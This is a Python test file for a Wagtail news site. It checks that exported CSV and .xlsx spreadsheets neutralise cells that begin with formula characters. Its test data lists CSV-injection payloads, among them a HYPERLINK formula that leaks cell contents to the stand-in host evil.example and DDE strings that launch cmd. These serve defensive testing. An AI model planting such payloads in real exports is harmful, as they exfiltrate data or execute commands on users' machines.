"""Exported spreadsheets: a cell starting with =, +, -, @, tab or carriage return is made
text, in the project's own exports and in Wagtail's (the admin's reports), as CSV and .xlsx.

(The takedown log's CSV is checked in newsroom/tests/test_export_formulas.py.)
"""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from wagtail.log_actions import log

from core.spreadsheets import spreadsheet_cell

# One per dangerous start: a formula, a DDE call, a sum, a function, and hidden starts.
ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_dangerous_starts_become_text(value):
    assert spreadsheet_cell(value) == "'" + value


def test_everything_else_is_left_as_it_is():
    for value in ("Lễ hội Oóc Om Bóc", "1963-CV/TU", "a=b", " =1", "", 42, -5, 3.5, None):
        assert spreadsheet_cell(value) == value


@pytest.fixture
def exported_titles(db):
    """Site-history entries for objects named by each attack (an editor chose the titles)."""
    from news.models import Section

    user = get_user_model().objects.create_superuser("quantri", "qt@example.vn", "x-Pass-2026")
    for index, title in enumerate(ATTACKS):
        section = Section.objects.create(name=title[:100], slug=f"muc-{index}")
        log(section, "wagtail.create", user=user)
    client = Client(HTTP_ACCEPT_LANGUAGE="vi")
    client.force_login(user)
    return client


def test_wagtail_report_csv_is_neutralised(exported_titles):
    """Before: Wagtail wrote these cells as they were."""
    response = exported_titles.get("/admin/reports/site-history/?export=csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    names = {row[1] for row in csv.reader(io.StringIO(text, newline=""))}
    for title in ATTACKS:
        assert "'" + title[:100] in names
        assert title[:100] not in names


def test_wagtail_report_xlsx_keeps_them_as_text(exported_titles):
    import openpyxl

    response = exported_titles.get("/admin/reports/site-history/?export=xlsx")
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [cell for row in workbook.active.iter_rows(min_row=2) for cell in row[1:2]]
    assert sorted(cell.value for cell in cells) == sorted("'" + t[:100] for t in ATTACKS)
    assert {cell.data_type for cell in cells} == {"s"}
